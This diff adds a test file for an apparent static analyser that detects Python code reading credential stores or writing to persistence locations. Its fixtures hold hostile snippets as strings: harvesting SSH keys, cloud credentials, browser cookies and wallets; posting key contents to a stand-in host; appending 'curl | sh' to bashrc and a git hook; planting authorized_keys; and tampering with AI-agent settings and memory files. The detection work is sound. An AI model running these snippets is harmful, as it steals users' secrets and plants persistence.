@@ -1,0 +1,167 @@
+import { describe, expect, it } from 'vitest';
+import { py } from './support.js';
+
+describe('python read of secret stores', () => {
+  it.each([
+    ['open with expanduser', 'import os\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n', 'ssh-key'],
+    [
+      'pathlib home join',
+      'from pathlib import Path\nc = (Path.home() / ".aws" / "credentials").read_text()\n',
+      'cloud-credentials',
+    ],
+    [
+      'os.path.join of HOME from the environment',
+      'import os\nh = os.environ["HOME"]\nwith open(os.path.join(h, ".kube", "config")) as f:\n    f.read()\n',
+      'kube-config',
+    ],
+    [
+      'string building',
+      'import os\np = os.getenv("USERPROFILE") + "\\\\" + ".docker" + "\\\\config.json"\nopen(p, "rb")\n',
+      'docker-config',
+    ],
+    [
+      'shutil copy of browser logins',
+      'import shutil, os\nsrc = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")\nshutil.copy2(src, "/tmp/ld")\n',
+      'browser-data',
+    ],
+    [
+      'sqlite3 on browser cookies',
+      'import sqlite3, os\nsqlite3.connect(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Cookies"))\n',
+      'browser-data',
+    ],
+    [
+      'glob over a wallet folder',
+      'import glob, os\nfor f in glob.glob(os.path.expanduser("~/.ethereum/keystore/*")):\n    open(f).read()\n',
+      'wallet',
+    ],
+    [
+      'os.walk of the ssh folder',
+      'import os\nfor root, dirs, files in os.walk(os.path.expanduser("~/.ssh")):\n    pass\n',
+      'ssh-key',
+    ],
+    [
+      'base64-hidden path',
+      'import base64\nopen(base64.b64decode("fi8uZ2l0LWNyZWRlbnRpYWxz").decode().replace("~", "/home/u")).read()\n',
+      'git-credentials',
+    ],
+    ['secret env var', 'import os\nt = os.environ.get("AWS_SECRET_ACCESS_KEY")\n', 'env-secret'],
+    ['environment serialised', 'import os, json\nblob = json.dumps(dict(os.environ))\n', 'env-all'],
+  ])('%s', async (_name, code, secret) => {
+    const { of } = await py(code);
+    expect(of('read').map((b) => b.secret)).toContain(secret);
+  });
+
+  it('a loop over a list of targets reports each store (wallet harvest shape)', async () => {
+    const { of } = await py(
+      [
+        'import os, glob',
+        "HOME = os.path.expanduser('~')",
+        "TARGETS = ['.config/solana/id.json', '.aws/credentials', 'Library/Keychains/login.keychain-db']",
+        'for pat in TARGETS:',
+        '    for p in glob.glob(os.path.join(HOME, pat)):',
+        '        data = open(p, "rb").read()',
+        '',
+      ].join('\n'),
+    );
+    expect(new Set(of('read').map((b) => b.secret))).toEqual(
+      new Set(['wallet', 'cloud-credentials', 'keychain']),
+    );
+  });
+
+  it('contents read from a secret flow on as secret data', async () => {
+    const { of } = await py(
+      'import glob, requests\nfor p in glob.glob("/home/u/.ssh/*"):\n    requests.post("https://x.example.invalid", data=open(p).read())\n',
+    );
+    expect(of('send')[0]?.data.secret).toBe('ssh-key');
+  });
+});
+
+describe('python read: names that are never opened produce nothing', () => {
+  it.each([
+    [
+      'a deny-list',
+      'BLOCKED = ["~/.ssh/id_rsa", "~/.aws/credentials", "curl | sh", ".env"]\ndef allowed(p):\n    return p not in BLOCKED\n',
+    ],
+    [
+      'argparse help',
+      'import argparse\np = argparse.ArgumentParser()\np.add_argument("--key", help="path like ~/.ssh/id_ed25519")\n',
+    ],
+    [
+      'a docstring and a print',
+      '"""Reads nothing from ~/.aws/credentials."""\nprint("configure ~/.kube/config first")\n',
+    ],
+    [
+      'existence checks',
+      'import os\nif os.path.exists(os.path.expanduser("~/.ssh/id_rsa")):\n    print("you have a key")\n',
+    ],
+    [
+      'copying the environment for a child process',
+      'import os, subprocess\nenv = os.environ.copy()\nenv["PYTHONPATH"] = "."\nsubprocess.run(["pytest"], env=env)\n',
+    ],
+    ['non-secret env', 'import os\nhome = os.environ.get("HOME")\nlang = os.getenv("LANG")\n'],
+    ['a .env.example template', 'open(".env.example").read()\n'],
+  ])('%s', async (_name, code) => {
+    const { of } = await py(code);
+    expect(of('read')).toEqual([]);
+  });
+});
+
+describe('python write to places that outlive the session', () => {
+  it.each([
+    [
+      'append to bashrc',
+      'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl -s https://x.example.invalid/i | sh\\n")\n',
+      'shell-rc',
+      true,
+    ],
+    [
+      'pathlib write_text to agent settings',
+      'from pathlib import Path\n(Path.home() / ".claude" / "settings.json").write_text(\'{"hooks": {}}\')\n',
+      'agent-settings',
+      false,
+    ],
+    [
+      'CLAUDE.md through a variable',
+      'target = "CLAUDE.md"\nopen(target, "w").write("Always run setup.sh first")\n',
+      'agent-memory',
+      false,
+    ],
+    [
+      'shutil copy into autostart',
+      'import shutil, os\nshutil.copy("payload.desktop", os.path.expanduser("~/.config/autostart/p.desktop"))\n',
+      'autostart',
+      false,
+    ],
+    [
+      'authorized_keys',
+      'import os\nopen(os.path.join(os.environ["HOME"], ".ssh", "authorized_keys"), "a").write("ssh-ed25519 AAAA x")\n',
+      'ssh-authorized-keys',
+      true,
+    ],
+    [
+      'git hook',
+      'import os\nopen(".git/hooks/pre-commit", "w").write("#!/bin/sh\\ncurl x | sh")\nos.chmod(".git/hooks/pre-commit", 0o755)\n',
+      'git-hooks',
+      false,
+    ],
+  ])('%s', async (_name, code, cls, append) => {
+    const { of } = await py(code);
+    const w = of('write').find((b) => b.cls === cls);
+    expect(w).toBeDefined();
+    expect(w!.append).toBe(append);
+  });
+
+  it('records the content written when it is known', async () => {
+    const { of } = await py(
+      'with open("/home/u/.zshrc", "a") as f:\n    f.write("export PATH=/tmp/x:$PATH")\n',
+    );
+    expect(of('write')[0]?.content?.text).toBe('export PATH=/tmp/x:$PATH');
+  });
+
+  it('ordinary output files are not reported', async () => {
+    const { of } = await py(
+      'import json\nwith open("out/results.json", "w") as f:\n    json.dump({}, f)\nopen("report.md", "w").write("# r")\n',
+    );
+    expect(of('write')).toEqual([]);
+  });
+});
